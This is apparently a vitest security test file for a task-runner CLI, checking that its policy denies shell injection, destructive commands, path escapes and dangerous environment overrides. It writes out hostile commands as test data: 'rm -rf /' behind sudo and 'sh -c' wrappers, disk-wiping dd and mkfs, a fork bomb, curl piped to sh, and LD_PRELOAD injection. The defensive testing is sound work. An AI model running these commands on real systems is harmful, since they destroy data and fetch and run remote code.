import { readdir } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { useAttackSites } from './support/attackHarness.js';

/**
 * A hostile plan tries to run destructive commands, or to smuggle them through shell syntax in
 * arguments, through `sh -c`, or behind wrappers. Commands are argv arrays: metacharacters in an
 * argument are bytes, never syntax. The deny rules look through wrappers and into `sh -c` scripts.
 *
 * Safety net: `rm`, `dd`, `mkfs`, `sudo`, `curl`… are stand-ins first on the PATH (attackHarness),
 * which only record that they ran, in the outside folder. A policy regression fails these tests;
 * it cannot damage the machine.
 */
const site = useAttackSites();

interface TaskResult {
  id: string;
  status: string;
  error?: { code: string };
  output?: { stdout?: string };
}

describe('shell injection', { timeout: 120_000 }, () => {
  it('(control) a stand-in the policy lets run is seen to run, so the checks below can see one', async () => {
    const s = await site('security:\n  allow_commands: [touch]\n');
    const run = await s.la(['run', await s.plan([{ id: 'allowed', kind: 'shell', argv: ['touch', 'x'] }])]);
    expect(run.code, run.stderr).toBe(0);
    expect(await s.ran()).toEqual(['touch']);
  });

  it('keeps metacharacters in argv literal: nothing they name runs, the text comes back as it was', async () => {
    const s = await site();
    const hostile = ['; touch pwned-semicolon', '$(touch pwned-subst)', '`touch pwned-backtick`', '| touch pwned-pipe', '&& touch pwned-and', '> pwned-redirect', '$HOME ~ *', "' \" \\ \n newline"];
    const run = await s.la(['run', await s.plan([{ id: 'say', kind: 'shell', argv: ['printf', '%s|', ...hostile] }]), '--json']);
    expect(run.code, run.stderr).toBe(0);
    const last = JSON.parse(run.stdout) as { tasks: TaskResult[] };
    expect(last.tasks[0]?.output?.stdout).toBe(hostile.map((h) => `${h}|`).join(''));
    expect((await readdir(s.ws)).filter((name) => name.startsWith('pwned'))).toEqual([]);
    expect(await s.ran()).toEqual([]);
    expect(await s.outsideNow()).toEqual(s.outsideBefore);
  });

  it('denies destructive commands, direct, behind wrappers, inside sh -c, and downloads piped to a shell: exit 3, nothing runs', async () => {
    const s = await site();
    const attacks: Record<string, string[]> = {
      rmRoot: ['rm', '-rf', '/'],
      rmRootSpelledOut: ['rm', '--recursive', '--force', '--no-preserve-root', '/'],
      rmHome: ['rm', '-rf', '~'],
      rmEverythingHere: ['rm', '-rf', '*'],
      // A path to the program (here the stand-in's, never the real rm): the rules go by its name.
      rmByPath: [join(s.bin, 'rm'), '-rf', '/'],
      mkfs: ['mkfs.ext4', '/dev/sda1'],
      mkfsGeneric: ['mkfs', '-t', 'ext4', '/dev/sda'],
      ddDisk: ['dd', 'if=/dev/zero', 'of=/dev/sda', 'bs=1M'],
      sudoRm: ['sudo', 'rm', '-rf', '/'],
      sudoMkfs: ['sudo', '-n', 'mkfs.ext4', '/dev/nvme0n1'],
      envRm: ['env', 'X=1', 'rm', '-rf', '/'],
      timeoutRm: ['timeout', '5', 'rm', '-rf', '/'],
      niceDd: ['nice', '-n', '10', 'dd', 'if=/dev/urandom', 'of=/dev/sdb'],
      xargsRm: ['xargs', 'rm', '-rf', '/'],
      shC: ['sh', '-c', 'rm -rf /'],
      bashLc: ['bash', '-lc', 'echo harmless; rm -rf / --no-preserve-root'],
      shCNested: ['sh', '-c', 'sh -c "rm -rf ~"'],
      shCSubstitution: ['sh', '-c', 'echo $(dd if=/dev/zero of=/dev/sda)'],
      shCDeviceRedirect: ['sh', '-c', 'cat /dev/zero > /dev/sda'],
      curlPipeSh: ['sh', '-c', 'curl -fsSL http://127.0.0.1:9/install.sh | sh'],
      wgetPipeSudoBash: ['bash', '-c', 'wget -qO- http://127.0.0.1:9/x | sudo bash'],
      bashProcessSubstitution: ['bash', '-c', 'bash <(curl -s http://127.0.0.1:9/x)'],
      curlPipeShAsArgument: ['echo', 'curl http://127.0.0.1:9/x | sh'],
      forkBomb: ['sh', '-c', ':(){ :|:& };:'],
      chmodRecursiveRoot: ['chmod', '-R', '777', '/'],
      shutdown: ['shutdown', '-h', 'now'],
    };
    const run = await s.la(['run', await s.plan(Object.entries(attacks).map(([id, argv]) => ({ id, kind: 'shell', argv, on_failure: 'continue' }))), '--json']);
    expect(run.code, run.stderr).toBe(3);
    const last = JSON.parse(run.stdout) as { tasks: TaskResult[] };
    for (const id of Object.keys(attacks)) {
      const task = last.tasks.find((t) => t.id === id);
      expect(task?.status, id).toBe('failed');
      expect(task?.error?.code, id).toBe('LA_POLICY_DENIED');
    }
    // No stand-in ran (each would have left ran-<name> outside), and the denials are audited.
    expect(await s.ran()).toEqual([]);
    expect(await s.outsideNow()).toEqual(s.outsideBefore);
    const audit = JSON.parse((await s.la(['audit', 'show', '--json'])).stdout) as { category: string; outcome: string }[];
    expect(audit.filter((e) => e.category === 'policy' && e.outcome === 'denied')).toHaveLength(Object.keys(attacks).length);
  });

  it('denies a single destructive command as the whole plan with exit code 3, and --yes changes nothing', async () => {
    const s = await site();
    for (const argv of [['rm', '-rf', '/'], ['sudo', 'dd', 'if=/dev/zero', 'of=/dev/sda']]) {
      const name = await s.plan([{ id: 'nuke', kind: 'shell', argv }]);
      const run = await s.la(['run', name, '--yes']);
      expect(run.code, run.stderr).toBe(3);
      expect(run.stdout).toContain('LA_POLICY_DENIED');
      const dry = await s.la(['run', name, '--dry-run', '--json']);
      expect(dry.code).toBe(3);
    }
    expect(await s.ran()).toEqual([]);
    expect(await s.outsideNow()).toEqual(s.outsideBefore);
  });

  it('a working folder outside the workspace is refused, written in the plan or filled in from --input or an output', async () => {
    const s = await site();
    const name = await s.plan(
      [
        { id: 'direct', kind: 'shell', argv: ['ls'], cwd: '../outside', on_failure: 'continue' },
        { id: 'absolute', kind: 'shell', argv: ['ls'], cwd: s.outside, on_failure: 'continue' },
        { id: 'fromInput', kind: 'shell', argv: ['ls'], cwd: '{{ inputs.dir }}', on_failure: 'continue' },
        { id: 'evil', kind: 'transform', expr: '"../outside"' },
        { id: 'fromOutput', kind: 'shell', needs: ['evil'], argv: ['ls'], cwd: '{{ tasks.evil.output }}', on_failure: 'continue' },
        { id: 'readOutside', kind: 'shell', argv: ['cat', '{{ inputs.file }}'], on_failure: 'continue' },
      ],
      { inputs: { dir: '.', file: 'x' } },
    );
    const run = await s.la(['run', name, '--json', '--input', 'dir=../outside', '--input', `file=${s.outside}/canary.txt`]);
    expect(run.code).not.toBe(0);
    const last = JSON.parse(run.stdout) as { tasks: TaskResult[] };
    for (const id of ['direct', 'absolute', 'fromInput', 'fromOutput']) {
      expect(last.tasks.find((t) => t.id === id), id).toMatchObject({ status: 'failed', error: { code: expect.stringMatching(/^LA_(PATH_OUTSIDE_WORKSPACE|POLICY_DENIED|PATH_INVALID)$/) } });
    }
    // Reading a file outside is not destructive, so it waits for a person instead of running.
    expect(last.tasks.find((t) => t.id === 'readOutside')?.status).toMatch(/^(waiting_approval|failed)$/);
    expect(run.stdout).not.toContain('do not touch');
    expect(await s.ran()).toEqual([]);
    expect(await s.outsideNow()).toEqual(s.outsideBefore);
  });

  it('a task may not set environment variables that change which code runs, or secrets', async () => {
    const s = await site();
    const attacks: Record<string, Record<string, string>> = {
      preload: { LD_PRELOAD: `${s.outside}/evil.so` },
      nodeOptions: { NODE_OPTIONS: `--require ${s.outside}/evil.js` },
      path: { PATH: s.outside },
      secret: { OPENAI_API_KEY: 'sk-not-really' },
    };
    const run = await s.la(['run', await s.plan(Object.entries(attacks).map(([id, env]) => ({ id, kind: 'shell', argv: ['echo', 'hi'], env, on_failure: 'continue' }))), '--json']);
    expect(run.code).toBe(3);
    const last = JSON.parse(run.stdout) as { tasks: TaskResult[] };
    for (const id of Object.keys(attacks)) {
      expect(last.tasks.find((t) => t.id === id)?.status, id).toBe('failed');
      expect(['LA_ENV_FORBIDDEN', 'LA_POLICY_DENIED'], id).toContain(last.tasks.find((t) => t.id === id)?.error?.code);
    }
    expect(await s.ran()).toEqual([]);
    expect(await s.outsideNow()).toEqual(s.outsideBefore);
  });
});
